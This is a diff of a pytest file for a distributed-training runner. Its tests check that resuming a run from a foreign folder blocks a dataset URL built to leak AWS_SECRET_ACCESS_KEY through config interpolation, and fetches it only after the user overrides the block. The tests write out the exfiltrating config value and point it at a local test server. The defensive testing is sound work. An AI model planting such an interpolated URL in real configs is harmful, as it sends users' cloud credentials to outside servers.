@@ -65,11 +65,9 @@ def foreign_run(folder: Path, changes: dict[str, Any]) -> Path:
 
 def hub_files(address: str) -> dict[str, Any]:
     """Return a dataset whose file is at an address that holds a variable of this machine."""
-    sources = "ddp_runner.data.sources"
+    target = "ddp_runner.data.sources.hf_dataset.HFDataset"
     files = f"http://{address}/${{oc.env:AWS_SECRET_ACCESS_KEY}}.csv"
-    rows = {"_target_": f"{sources}.hf.load", "path": "csv", "data_files": files}
-    train = {**rows, "split": "train", "data_root": "."}
-    return {"_target_": f"{sources}.torch_dataset.TorchDataset", "name": "x", "train": train}
+    return {"_target_": target, "name": "x", "path": "csv", "data_files": files, "eval_split": None}
 
 
 @pytest.mark.parametrize("task", first_of(TASKS))
@@ -81,8 +79,8 @@ def test_a_foreign_run_sends_nothing_to_its_server(task: str, tmp_path: Path) ->
         end = run_command(f"resume={run}", "world_size=1", *words, folder=tmp_path / "here")
         assert (end.exit_code, asked) == (2, [])
     (line,) = end.stderr.splitlines()
-    assert line.startswith("error: dataset.train.data_files (http://127.0.0.1:")
-    word = f'++dataset.train.data_files="http://127.0.0.1:{port}/${{oc.env:AWS_SECRET_ACCESS_KEY}}.csv"'
+    assert line.startswith("error: dataset.data_files (http://127.0.0.1:")
+    word = f'++dataset.data_files="http://127.0.0.1:{port}/${{oc.env:AWS_SECRET_ACCESS_KEY}}.csv"'
     assert line.endswith(f"add {shlex.quote(word)}")
     assert SECRET not in line
 
@@ -93,8 +91,7 @@ def test_the_attack_works_once_the_user_says_so(tmp_path: Path) -> None:
     pytest.importorskip("datasets")
     with server() as (port, asked):
         run = foreign_run(tmp_path / "run", {"dataset": hub_files(f"127.0.0.1:{port}")})
-        files = hub_files(f"127.0.0.1:{port}")["train"]["data_files"]
-        word = f'++dataset.train.data_files="{files}"'
+        word = f'++dataset.data_files="{hub_files(f"127.0.0.1:{port}")["data_files"]}"'
         end = run_command(f"resume={run}", "world_size=1", word, folder=tmp_path / "here")
         assert end.exit_code == 2
         assert f"/{SECRET}.csv" in asked
